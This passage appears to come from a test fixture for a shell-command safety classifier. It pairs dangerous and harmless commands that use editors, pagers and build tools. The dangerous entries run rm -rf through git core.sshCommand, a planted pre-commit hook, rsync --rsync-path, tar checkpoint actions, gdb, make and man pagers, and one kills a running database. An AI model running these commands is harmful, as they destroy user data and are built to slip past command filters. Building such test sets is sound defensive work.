    'git -c core.sshCommand=\'sh -c "rm -rf /home/dev/project/src"\' fetch origin',
    { note: 'git runs core.sshCommand to reach an ssh remote' },
  ),
  d(
    'editors-pagers-and-tools-that-run-commands',
    "printf '#!/bin/sh\\nrm -rf /home/dev/project/src\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git commit -am wip",
    { note: 'the commit runs the planted pre-commit hook' },
  ),
  d(
    'editors-pagers-and-tools-that-run-commands',
    "rsync --rsync-path='sudo rm -rf /srv/www && rsync' -a dist/ deploy@web-prod:/srv/www/",
    { note: '--rsync-path is run as a shell command on the remote host' },
  ),
  d(
    'editors-pagers-and-tools-that-run-commands',
    "tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='rm -rf /home/dev/project'",
  ),
  d('editors-pagers-and-tools-that-run-commands', 'yes | find /srv/backups -type f -ok rm {} \\;'),
  d(
    'editors-pagers-and-tools-that-run-commands',
    "printf 'all:\\n\\trm -rf /var/lib/docker\\n' | sudo make -f -",
  ),
  d('editors-pagers-and-tools-that-run-commands', "gdb -batch -ex 'shell rm -rf /home/dev/project/src'"),
  d('editors-pagers-and-tools-that-run-commands', 'sudo gdb -p "$(pgrep -xo postgres)" -batch -ex kill', {
    note: 'kills the postmaster of the running database server',
  }),
  d('editors-pagers-and-tools-that-run-commands', "strace -f -o /dev/null sh -c 'rm -rf /srv/data'"),
  d('editors-pagers-and-tools-that-run-commands', 'fakeroot rm -rf /home/dev/project', {
    note: 'fakeroot only fakes ownership; the files are really deleted',
  }),
  d('editors-pagers-and-tools-that-run-commands', 'firejail --noprofile rm -rf ~/Documents', {
    note: 'with --noprofile the home directory is not protected',
  }),
  d('editors-pagers-and-tools-that-run-commands', 'man -P \'sh -c "rm -rf /home/dev/project"\' ls'),
  // editors-pagers-and-tools-that-run-commands: harmless
  h('editors-pagers-and-tools-that-run-commands', "vim -c 'set ff=unix' -c 'wq' scripts/deploy.sh"),
  h('editors-pagers-and-tools-that-run-commands', "ex -sc '%s/v1\\.2\\.3/v1.2.4/g|x' package.json"),
  h('editors-pagers-and-tools-that-run-commands', 'less +F /var/log/nginx/access.log'),
  h('editors-pagers-and-tools-that-run-commands', "git -c core.pager='less -RFX' log -p -3"),
  h(
    'editors-pagers-and-tools-that-run-commands',
    "git -c core.sshCommand='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' fetch origin",
  ),
  h('editors-pagers-and-tools-that-run-commands', "git -c alias.s='!git status -sb && git stash list' s"),
  h(
    'editors-pagers-and-tools-that-run-commands',
    "rsync -av -e 'ssh -p 2222' deploy@web-prod:/var/log/app/ ./logs/",
  ),
  h(
    'editors-pagers-and-tools-that-run-commands',
    'rsync -an --delete --itemize-changes dist/ deploy@web-prod:/srv/www/',
    { note: '-n makes it a dry run' },
  ),
  h('editors-pagers-and-tools-that-run-commands', "tar -xzf release.tgz --to-command='wc -c'"),
  h('editors-pagers-and-tools-that-run-commands', "find . -name '*.orig' -ok rm {} \\;"),
  h('editors-pagers-and-tools-that-run-commands', "printf 'hello:\\n\\t@echo hi\\n' | make -f -"),
  h('editors-pagers-and-tools-that-run-commands', 'npm test -- --watch=false'),
  h('editors-pagers-and-tools-that-run-commands', 'gdb -batch -ex bt ./build/app core.1234'),
  h(
    'editors-pagers-and-tools-that-run-commands',
    'strace -c -f -o /tmp/strace.txt curl -s -o /dev/null https://api.prod.example.com/healthz',
  ),
  h('editors-pagers-and-tools-that-run-commands', 'fakeroot dpkg-deb --build pkg out/app_1.0_amd64.deb'),
  h('editors-pagers-and-tools-that-run-commands', 'firejail --net=none node dist/cli.js --help'),
  h('editors-pagers-and-tools-that-run-commands', 'man -P cat git-rebase'),
];
